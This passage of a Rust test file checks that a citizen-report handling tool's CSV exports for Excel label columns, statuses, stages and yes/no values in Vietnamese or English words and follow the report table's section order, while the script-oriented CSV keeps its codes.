        "Căn cứ tính thời hạn và tiêu chí áp dụng;;Ngoài giờ làm việc của ngày làm việc;tính từ giờ làm việc kế tiếp",
    );
    // No section, metric or stage is left a program's word; the cases' stages are words.
    for line in &lines[1..] {
        assert!(!code_like(&line[0]), "{line:?}");
        assert!(line[2].is_empty() || !code_like(&line[2]), "{line:?}");
        assert!(line[5].is_empty() || !code_like(&line[5]), "{line:?}");
    }
    assert!(
        lines
            .iter()
            .any(|r| r[0] == "6.1. Trễ hạn" && r[5] == "Phân phối"),
        "{excel}"
    );
    assert_eq!(twin.word("false"), ["Không"]);
    assert!(!excel.contains("false") && !excel.contains("true"));
    // The file for scripts is the one it always was.
    assert!(standard.starts_with("section,item,metric,value,external_id,stage,round,"));
    assert!(standard.contains("\ntotals,,received,118,"));
    assert!(standard.contains("\nperiod,,running,false,"));
    assert_eq!(report(&["--csv", "standard"], &october), standard);

    // In English, and in every period.
    let english = report(&["--lang", "en", "--csv", "excel"], &october);
    let lines = records(&english, b';');
    assert!(
        lines[0]
            .join(";")
            .starts_with("Section;Item;Metric;Value;External id;Stage;")
    );
    for line in [
        "1. Totals;;Reports received;118",
        "Period;;Not ended;No",
        "2. Deadlines by stage;Dispatch;Stage;Dispatch",
    ] {
        assert!(
            lines.iter().any(|r| r[..4].join(";") == line),
            "{line}: {english}"
        );
    }
    for (period, kind) in [
        (["report", "quarterly", "--period", "2026-Q3"], "Quý"),
        (["report", "half-year", "--period", "2026-H2"], "6 tháng"),
        (["report", "annual", "--period", "2026"], "Năm"),
    ] {
        let (standard, excel) = (report(&[], &period), report(&["--csv", "excel"], &period));
        assert_excel_twin(&standard, &excel, true).assert_worded();
        let lines = records(&excel, b';');
        let kind_line = format!("Kỳ báo cáo;;Loại kỳ;{kind}");
        assert!(
            lines.iter().any(|r| r[..4].join(";") == kind_line),
            "{excel:.600}"
        );
        assert!(
            lines[1..]
                .iter()
                .all(|r| !code_like(&r[0]) && !code_like(&r[2]))
        );
    }
}

/// The queues for Excel (`list`, `list --overdue`, `list --due`) are headed as the tables
/// are, and say a status, a stage and yes or no in words (`Đang xử lý`, `Phân phối`,
/// `Không`), where the file carried `assigned`, `dispatch` and `false`, which Excel made its
/// own boolean. The file for scripts keeps its keys and codes.
#[test]
fn the_lists_for_excel_speak_the_officers_language() {
    let env = world();
    let list = |extra: &[&str], args: &[&str]| {
        let mut all = vec!["--format", "csv"];
        all.extend_from_slice(extra);
        all.push("list");
        all.extend_from_slice(args);
        env.run_as(RECEPTION, &all).success().stdout.clone()
    };
    let excel = ["--csv", "excel"];
    let english = ["--lang", "en", "--csv", "excel"];

    let (standard, worded) = (list(&[], &[]), list(&excel, &[]));
    let twin = assert_excel_twin(&standard, &worded, true);
    twin.assert_worded();
    let heads: Vec<&str> = twin.heads.iter().map(|(_, h)| h.as_str()).collect();
    assert_eq!(
        heads,
        [
            "Số",
            "Mã ứng dụng",
            "Gửi lúc",
            "Trạng thái",
            "Khẩn",
            "Lĩnh vực",
            "Cơ quan",
            "Xã/phường",
            "Người phản ánh",
            "Nội dung",
            "Danh tính đã xóa",
            "Danh tính không mở được",
            "Bị yêu cầu xử lý lại",
            "Có thể trùng phản ánh"
        ]
    );
    assert_eq!(twin.word("assigned"), ["Đang xử lý"]);
    assert_eq!(twin.word("false"), ["Không"]);
    assert!(standard.starts_with("id,external_id,submitted_at,status,urgent,field,agency,"));
    assert!(standard.contains(",assigned,false,"), "{standard}");
    let twin = assert_excel_twin(&standard, &list(&english, &[]), true);
    assert_eq!(twin.head("status"), "Status");
    assert_eq!(twin.word("assigned"), ["Being handled"]);
    assert_eq!(twin.word("false"), ["No"]);

    let (standard, worded) = (list(&[], &["--overdue"]), list(&excel, &["--overdue"]));
    let twin = assert_excel_twin(&standard, &worded, true);
    twin.assert_worded();
    assert_eq!(twin.head("overdue_stage"), "Giai đoạn");
    assert_eq!(twin.head("overdue_due_at"), "Hạn");
    assert_eq!(twin.head("overdue_open"), "Đang quá hạn");
    assert_eq!(twin.word("dispatch"), ["Phân phối"]);
    assert_eq!(twin.word("received"), ["Chờ kiểm tra"]);
    assert_eq!(twin.word("true"), ["Có"]);
    assert!(standard.contains(",dispatch,1,,2026-11-01T05:13:50+07:00,true,,true"));
    let twin = assert_excel_twin(&standard, &list(&english, &["--overdue"]), true);
    assert_eq!(twin.head("overdue_stage"), "Stage");
    assert_eq!(twin.word("dispatch"), ["Dispatch"]);
    assert_eq!(twin.word("true"), ["Yes"]);

    let due = ["--due", "2026-11-30"];
    let (standard, worded) = (list(&[], &due), list(&excel, &due));
    let twin = assert_excel_twin(&standard, &worded, true);
    twin.assert_worded();
    assert_eq!(twin.head("overdue"), "Quá hạn");
    assert_eq!(twin.head("minutes_left"), "Còn / quá (phút)");
    assert_eq!(twin.word("process"), ["Xử lý"]);
    assert!(standard.starts_with("agency,agency_name,report_id,external_id,urgent,stage,"));
}

/// The sweep for Excel is headed as its table is and says a stage, a threshold and yes or
/// no in words (`Phân phối`, `Quá hạn`, `Không`); lines a cron job appends under a header
/// (`--no-headers`) say them alike. The file for scripts keeps `dispatch,…,overdue,…,false`.
#[test]
fn the_sweep_for_excel_speaks_the_officers_language() {
    let env = world();
    let sweep_with = |extra: &[&str], after: &[&str]| {
        let mut args = vec!["--format", "csv"];
        args.extend_from_slice(extra);
        args.extend(["sweep", "--dry-run"]);
        args.extend_from_slice(after);
        env.run_as(ADMIN, &args).success().stdout.clone()
    };
    let sweep = |extra: &[&str]| sweep_with(extra, &[]);
    let (standard, excel) = (sweep(&[]), sweep(&["--csv", "excel"]));
    let twin = assert_excel_twin(&standard, &excel, true);
    twin.assert_worded();
    assert_eq!(twin.head("threshold"), "Mức");
    assert_eq!(twin.head("minutes_over"), "Quá / còn (phút)");
    assert_eq!(twin.head("swept_at"), "Lúc quét");
    assert_eq!(twin.word("overdue"), ["Quá hạn"]);
    assert_eq!(twin.word("dispatch"), ["Phân phối"]);
    // `urgent` false, and `reminded_now` false in a dry run, which reminds nothing.
    assert_eq!(twin.word("false"), ["Không", "Không (chạy thử)"]);
    assert!(
        standard.starts_with("report_id,external_id,urgent,stage,round,agency,agency_name,"),
        "{standard}"
    );
    assert!(standard.contains(",false,dispatch,1,,,2026-11-01T05:13:50+07:00,overdue,166,false,"));
    let twin = assert_excel_twin(&standard, &sweep(&["--lang", "en", "--csv", "excel"]), true);
    assert_eq!(twin.head("threshold"), "Threshold");
    assert_eq!(twin.word("overdue"), ["Overdue"]);
    let appended = sweep_with(&["--csv", "excel"], &["--no-headers"]);
    assert_eq!(
        appended,
        excel
            .strip_prefix(BOM)
            .unwrap()
            .split_once("\r\n")
            .unwrap()
            .1
    );
}

/// The audit log, the reveals, the reference lists, the settings and the calendar for Excel
/// are headed as their tables are, and say what was done, a status, a role, a level and yes
/// or no in words (`Nhận từ ứng dụng`, `Chờ kiểm tra`, `Xuất đầy đủ`, `Quản trị`,
/// `tỉnh`, `Có`); the files for scripts keep `ingest`, `received`, `export_full`, `admin`,
/// `province`, `true`.
#[test]
fn the_other_listings_for_excel_speak_the_officers_language() {
    let env = world();
    // A full export is what the reveals list.
    full_export(&env, "standard", "toan-bo.csv");
    let both = |lang: &str, args: &[&str]| -> Twin {
        let run = |extra: &[&str]| {
            let mut all = vec!["--lang", lang, "--format", "csv"];
            all.extend_from_slice(extra);
            all.extend_from_slice(args);
            env.run_as(ADMIN, &all).success().stdout.clone()
        };
        let (standard, excel) = (run(&[]), run(&["--csv", "excel"]));
        let twin = assert_excel_twin(&standard, &excel, true);
        twin.assert_worded();
        twin
    };
    let log = both("vi", &["audit", "log", "3"]);
    assert_eq!(
        log.heads
            .iter()
            .map(|(_, h)| h.as_str())
            .collect::<Vec<_>>()[..6],
        [
            "Sự kiện",
            "Lúc xảy ra",
            "Người thực hiện",
            "Hành động",
            "Từ",
            "Sang"
        ]
    );
    assert_eq!(log.word("ingest"), ["Nhận từ ứng dụng"]);
    assert_eq!(log.word("received"), ["Chờ kiểm tra"]);
    assert_eq!(log.word("published"), ["Đã công khai"]);
    let log = both("en", &["audit", "log", "3"]);
    assert_eq!(log.head("action"), "Action");
    assert_eq!(log.word("received"), ["Awaiting the check"]);

    let reveals = both("vi", &["audit", "reveals"]);
    assert_eq!(reveals.head("action"), "Việc");
    assert_eq!(reveals.head("lookup"), "Tra cứu");
    assert_eq!(reveals.word("export_full"), ["Xuất đầy đủ"]);

    let staff = both("vi", &["staff", "list"]);
    assert_eq!(staff.head("role"), "Vai trò");
    assert_eq!(staff.word("admin"), ["Quản trị"]);
    assert_eq!(staff.word("true"), ["Có"]);
    let agencies = both("vi", &["agency", "list"]);
    assert_eq!(agencies.head("level"), "Cấp");
    assert_eq!(agencies.word("province"), ["tỉnh"]);
    assert_eq!(both("vi", &["field", "list"]).head("keywords"), "Từ khóa");
    assert_eq!(both("vi", &["settings", "show"]).head("meaning"), "Ý nghĩa");
    let calendar = both("vi", &["calendar", "show", "2026"]);
    assert_eq!(calendar.head("off"), "Nghỉ");
    assert_eq!(calendar.word("true"), ["Có"]);
    let deadline = both(
        "en",
        &[
            "calendar",
            "deadline",
            "--stage",
            "dispatch",
            "--start",
            "2026-11-06 16:30",
        ],
    );
    assert_eq!(deadline.head("working_day"), "Working day");
    assert_eq!(deadline.word("true"), ["Yes"]);
}

/// The verdicts of `validate` for Excel say the outcome and the reasons for rejection in
/// words (`Từ chối tiếp nhận`, the reasons' labels), where the file for scripts keeps
/// `rejected` and the reasons' codes.
#[test]
fn the_verdicts_for_excel_speak_the_officers_language() {
    let validate = |extra: &[&str]| {
        let env = TestEnv::ingested();
        let mut args = vec!["--format", "csv"];
        args.extend_from_slice(extra);
        args.push("validate");
        env.run_as(RECEPTION, &args).success().stdout.clone()
    };
    let (standard, excel) = (validate(&[]), validate(&["--csv", "excel"]));
    let twin = assert_excel_twin(&standard, &excel, true);
    twin.assert_worded();
    assert_eq!(twin.head("status"), "Kết quả");
    assert_eq!(twin.word("rejected"), ["Từ chối tiếp nhận"]);
    assert_eq!(twin.word("accepted"), ["Chờ phân phối"]);
    let rows = records(&excel, b';');
    let reasons = rows[0].iter().position(|h| h == "Lý do").unwrap();
    let rejected = rows.iter().find(|r| r[2] == "Từ chối tiếp nhận").unwrap();
    assert!(
        !rejected[reasons].is_empty() && !rejected[reasons].contains('_'),
        "{rejected:?}"
    );
    assert!(standard.contains(",rejected,"), "{standard}");
}

/// The full export for Excel is headed in words, as `show` labels each value, and says a
/// status, yes or no and the reasons for rejection in words (`Từ chối tiếp nhận`, `Không`,
/// `Số điện thoại sai`), where the file for scripts keeps `rejected`, `false` and
/// `invalid_phone`; the reporter's name and phone stay as stored.
#[test]
fn the_full_export_for_excel_speaks_the_officers_language() {
    let env = world();
    let (standard, excel) = (
        full_export(&env, "standard", "chuan.csv"),
        full_export(&env, "excel", "excel.csv"),
    );
    let twin = assert_excel_twin(&standard, &excel, true);
    twin.assert_worded();
    assert_eq!(twin.head("status"), "Trạng thái");
    assert_eq!(twin.head("reporter_phone"), "Điện thoại");
    assert_eq!(twin.head("state_secret"), "Bí mật nhà nước (Đ9.3)");
    assert_eq!(twin.word("rejected"), ["Từ chối tiếp nhận"]);
    assert_eq!(twin.word("published"), ["Đã công khai"]);
    assert_eq!(twin.word("false"), ["Không"]);
    assert_eq!(twin.word("invalid_phone"), ["Số điện thoại sai"]);
    assert!(standard.starts_with("id,external_id,submitted_at,occurred_at,status,urgent,"));
    assert!(
        standard.contains(",rejected,false,false,true,false,"),
        "{standard:.800}"
    );
    let english = {
        let path = out(&env, "en.csv");
        env.run_as(
            ADMIN,
            &[
                "--lang",
                "en",
                "--csv",
                "excel",
                "export",
                "csv",
                "--reason",
                "đối chiếu",
                "--out",
                &path,
            ],
        )
        .success();
        file(&env, "en.csv")
    };
    let twin = assert_excel_twin(&standard, &english, true);
    assert_eq!(twin.head("status"), "Status");
    assert_eq!(twin.word("rejected"), ["Rejected"]);
    assert_eq!(twin.word("false"), ["No"]);

    // The public view: its Open311 fields headed in words, its status too.
    let public = |extra: &[&str]| {
        let mut args = extra.to_vec();
        args.extend(["export", "csv", "--public"]);
        env.run_as(AUDITOR, &args).success().stdout.clone()
    };
    let standard = public(&[]);
    let twin = assert_excel_twin(&standard, &public(&["--csv", "excel"]), true);
    twin.assert_worded();
    assert_eq!(twin.head("service_request_id"), "Mã ứng dụng");
    assert_eq!(twin.head("requested_datetime"), "Gửi lúc");
    assert_eq!(twin.word("closed"), ["Đã công khai"]);
    assert!(standard.starts_with("service_request_id,status,status_notes,"));
    assert!(standard.contains(",closed,"));
    let twin = assert_excel_twin(
        &standard,
        &public(&["--lang", "en", "--csv", "excel"]),
        true,
    );
    assert_eq!(twin.head("status"), "Status");
    assert_eq!(twin.word("closed"), ["Closed"]);
}

/// The summary `ingest --format csv` prints for Excel is headed as its table is (`Tệp`,
/// `Đã lưu`, …), where the file for scripts keeps `file,format,stored,…`.
#[test]
fn the_ingest_summary_for_excel_is_headed_in_words() {
    let ingest = |extra: &[&str]| {
        let env = TestEnv::seeded();
        let mut args = vec!["--format", "csv"];
        args.extend_from_slice(extra);
        let file = example_str("reports.csv");
        args.extend(["ingest", &file]);
        env.run_as(RECEPTION, &args).success().stdout.clone()
    };
    let standard = ingest(&[]);
    let twin = assert_excel_twin(&standard, &ingest(&["--csv", "excel"]), true);
    twin.assert_worded();
    assert_eq!([twin.head("file"), twin.head("stored")], ["Tệp", "Đã lưu"]);
    assert!(
        standard.starts_with("file,format,stored,already_present,"),
        "{standard}"
    );
    let twin = assert_excel_twin(
        &standard,
        &ingest(&["--lang", "en", "--csv", "excel"]),
        true,
    );
    assert_eq!(twin.head("stored"), "Stored");
}

/// The report's CSV for Excel of a period that had ended carried an empty "Kỳ chưa kết
/// thúc;;;;…" row right under "Kỳ báo cáo;;Chưa kết thúc;Không", which the table, the
/// document and the workbook leave out, and which read as a line left blank. Its rows of the
/// accepted reports no agency holds, and of the duplicates with no field, wrote the program's
/// keys (`answered_by_portal`, `duplicate`) as their code, where the workbook writes "-". Now
/// an ended period has no such row (a running one keeps it, the file for scripts its line),
/// and those rows are coded "-" and named by their names.
#[test]
fn the_report_for_excel_leaves_out_an_empty_running_line_and_codes_rows_of_no_agency_with_a_dash() {
    let mut env = world();
    let september = [
        "report", "monthly", "--period", "2026-09", "--format", "csv",
    ];
    let standard = env.stdout_as(LEADER, &september, &[]);
    let excel = env.stdout_as(LEADER, &september, &["--csv", "excel"]);
    assert!(standard.contains("\nstill_running,,,,"), "{standard}");
    assert!(standard.contains("\nby_agency,answered_by_portal,agency,answered_by_portal,"));
    assert!(!excel.contains("Kỳ chưa kết thúc"), "{excel}");
    let lines = records(&excel, b';');
    let has = |line: &str| {
        assert!(
            lines.iter().any(|r| r[..4].join(";") == line),
            "no line {line:?} in\n{excel}"
        )
    };
    has("Kỳ báo cáo;;Chưa kết thúc;Không");
    has("4.2. Theo cơ quan xử lý;Cổng trả lời trực tiếp (không giao cơ quan);Mã;-");
    has("4.2. Theo cơ quan xử lý;Trùng lặp (không giao cơ quan);Mã;-");
    has("4.1. Theo lĩnh vực;Trùng lặp (không phân loại lĩnh vực);Mã;-");
    let keys = [
        "answered_by_portal",
        "duplicate",
        "returned",
        "not_assigned",
    ];
    for line in lines
        .iter()
        .filter(|r| r[0] == "4.2. Theo cơ quan xử lý" || r[0] == "4.1. Theo lĩnh vực")
    {
        assert!(!keys.contains(&line[1].as_str()), "{line:?}");
        assert!(!keys.contains(&line[3].as_str()), "{line:?}");
    }
    // As the workbook writes them.
    let book = env.run_as_into(LEADER, &september[..4], "t9.xlsx");
    let sheet = &crate::xlsx::workbook(&book)["4.2. Theo cơ quan xử lý"];
    let portal = crate::xlsx::Data::String("Cổng trả lời trực tiếp (không giao cơ quan)".into());
    let row = sheet
        .iter()
        .find(|r| r[1] == portal)
        .expect("the portal's row");
    assert_eq!(row[0], crate::xlsx::Data::String("-".into()));
    // A period still running says so on its line.
    env.set_now("2026-09-20T09:00:00+07:00");
    let running = env.stdout_as(LEADER, &september, &["--csv", "excel"]);
    assert!(
        running.contains("\r\nKỳ chưa kết thúc;;;Kỳ báo cáo chưa kết thúc: số liệu đến"),
        "{running}"
    );
}

/// The periodic report saved as CSV for Excel listed its parts in the JSON document's
/// order: the rejections (4.3) before the fields (4.1), the weeks after the communes, the
/// settings in the middle, where the leader who checks it against the table or the printed
/// report reads 1, 2, 3, 4.1 … 6.3 and the settings last. Both CSV files now follow the
/// table.
#[test]
fn the_report_as_csv_lists_its_parts_in_the_tables_order() {
    let env = world();
    let sections = |style: &str, name: &str, delimiter: u8| {
        let path = out(&env, name);
        env.run_as(
            LEADER,
            &[
                "--csv",
                style,
                "report",
                "quarterly",
                "--period",
                "2026-Q3",
                "--out",
                &path,
            ],
        )
        .success();
        let mut seen: Vec<String> = Vec::new();
        for record in records(&file(&env, name), delimiter).into_iter().skip(1) {
            if seen.last() != Some(&record[0]) {
                assert!(!seen.contains(&record[0]), "{} comes back", record[0]);
                seen.push(record[0].clone());
            }
        }
        seen
    };
    let standard = sections("standard", "q3.csv", b',');
    let tail: Vec<&str> = standard
        .iter()
        .map(String::as_str)
        .skip_while(|s| *s != "totals")
        .collect();
    // Each part the quarter has, in the table's order (it has no prolonged case).
    let in_order = |expected: &[&'static str], found: &[&str]| {
        let kept: Vec<&str> = expected
            .iter()
            .copied()
            .filter(|s| found.contains(s))
            .collect();
        assert!(kept.len() + 1 >= expected.len(), "{found:?}");
        assert_eq!(found, kept, "{found:?}");
    };
    in_order(
        &[
            "totals",
            "per_week",
            "stages",
            "agencies",
            "by_field",
            "by_agency",
            "rejections",
            "by_commune",
            "satisfaction",
            "thresholds",
            "late",
            "prolonged",
            "unresolved",
            "settings",
        ],
        &tail,
    );
    // In the reader's words, the numbered parts in their numbers' order, the settings last.
    let excel = sections("excel", "q3-excel.csv", b';');
    let numbered: Vec<&str> = excel
        .iter()
        .filter_map(|s| s.split_once(' ').map(|(n, _)| n))
        .filter(|n| n.starts_with(|c: char| c.is_ascii_digit()))
        .collect();
    in_order(
        &[
            "1.", "2.", "3.", "4.1.", "4.2.", "4.3.", "4.4.", "5.", "6.1.", "6.2.", "6.3.",
        ],
        &numbered,
    );
    assert_eq!(
        excel.last().map(String::as_str),
        Some("Căn cứ tính thời hạn và tiêu chí áp dụng"),
        "{excel:?}"
    );
}
